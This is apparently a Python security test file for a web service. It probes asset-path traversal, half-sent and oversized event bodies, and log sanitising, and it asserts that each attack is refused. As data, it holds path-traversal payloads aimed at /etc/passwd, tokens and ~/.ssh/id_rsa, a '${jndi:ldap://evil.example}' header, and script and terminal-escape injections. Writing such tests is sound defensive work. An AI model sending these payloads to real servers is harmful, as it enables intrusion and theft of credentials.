"""Paths, texts and bodies."""

import json
import os
import re

from .client import Answer, JSON, check, work


def paths(server):
    secret = os.path.join(work, "secret.txt")
    with open(secret, "w") as file:
        file.write("do not show")
    for path in (
        "../token",
        "../../token",
        "..%2ftoken",
        "%2e%2e/token",
        "%2e%2e%2ftoken",
        "..%252ftoken",
        "....//token",
        "..;/token",
        "/etc/passwd",
        "%2fetc%2fpasswd",
        "style.css/../../token",
        "style.css%00.js",
        "~/.ssh/id_rsa",
        "..%c0%aftoken",
        "%c0%ae%c0%ae/token",
        "..%5c..%5ctoken",
        "file:///etc/passwd",
        secret,
        "./../secret.txt",
        "%252e%252e/token",
        "CON",
        "a" * 7000,
    ):
        for headers in ([], [server.bearer()]):
            answer = server.request("GET", "/assets/" + path, headers)
            check(
                f"traversal, {path[:40]}{' with token' if headers else ''}",
                answer.status in (400, 401, 403, 404)
                and b"root:" not in answer.data
                and b"do not show" not in answer.data
                and server.token.encode() not in answer.data
                and not answer.header("location"),
                answer,
            )


def events(server):
    """Bodies of events: half of one is none, a large one is taken."""
    headers = [server.bearer(), ("Content-Type", "application/x-ndjson")]

    def line(number, text="x"):
        return (
            json.dumps(
                {
                    "transaction_id": f"{text}{number}",
                    "actor_id": f"{text}{number % 5000}",
                    "domain": "gaming",
                    "amount": 1,
                    "currency": "EUR",
                    "timestamp": "2026-11-21T10:00:00.000Z",
                }
            ).encode()
            + b"\n"
        )

    def count():
        answer = server.request("GET", "/analytics/summary", [server.bearer()])
        return json.loads(answer.body)["events"]["total"]

    before = count()
    whole = b"".join(line(number) for number in range(20))
    head = (
        f"POST /events HTTP/1.1\r\nHost: {server.host}\r\nAuthorization: Bearer {server.token}\r\n"
        "Content-Type: application/x-ndjson\r\n"
    ).encode()
    for name, data in [
        ("by length", head + b"Content-Length: 100000\r\n\r\n" + whole),
        ("in chunks", head + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(whole) + whole + b"\r\n"),
        (
            "without the last chunk's end",
            head + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(whole) + whole + b"\r\n0\r\n",
        ),
    ]:
        answer = Answer(server.raw(data, half_close=True))
        check(f"half a body of events is refused, {name}", answer.status == 400, answer)
        with server.connect() as connection:
            connection.sendall(data)
        check(f"half a body of events is not taken, {name}", count() == before, count())
    # Control characters in an event are no reason to repeat them on a terminal.
    body = line(1, "\x1b[31m\x07<script>\u202e") + b'{"transaction_id":"\x1b[31m"}\n\xff\n'
    answer = server.request("POST", "/events", headers, body)
    check("hostile events are answered", answer.status in (200, 400) and b"\x1b" not in answer.data, answer)
    large = b"".join(line(number, "large") for number in range(60_000))
    answer = server.request("POST", "/events", headers, large, timeout=30)
    check(f"a body of {len(large) >> 20} MiB is taken", answer.status == 200, answer)
    answer = server.request("POST", "/events", headers + [("Content-Length", str((16 << 20) + 1))], b"")
    check("413: more than 16 MiB of events", answer.status == 413, answer)
    answer = server.request("POST", "/predict", [server.bearer(), JSON, ("Content-Length", str((1 << 20) + 1))], b"")
    check("413: more than 1 MiB for a prediction", answer.status == 413, answer)


def texts(server):
    hostile = "/%1b%5b31mred%0aforged%20line%0d<script>alert(1)</script>%e2%80%ae"
    answer = server.request("GET", hostile, [server.bearer(), ("User-Agent", "${jndi:ldap://evil.example}")])
    check("hostile path: 404", answer.status == 404, answer)
    check("hostile path: nothing is echoed", b"script" not in answer.body and b"\x1b" not in answer.data, answer)
    answer = server.request("GET", "/\u00e9\u0085")
    check("raw bytes in a path", answer.status == 400, answer)
    log = server.log()
    check("the log has the request", "path=/%1b%5b31mred" in log or "path=/" in log, log[-300:])
    check("the log has no control characters", not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", log))
    check(
        "the log has only whole lines",
        all(
            re.match(r"(20\d\d-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z [a-z]+ |open http://)", line)
            for line in log.splitlines()
        ),
        log[:500],
    )
    check("the log has no token", server.token not in log)
    check("the log has no session", "patternalarm_session" not in log)
    check("the log has no code but the first", len(re.findall(r"code=", log)) == 1)
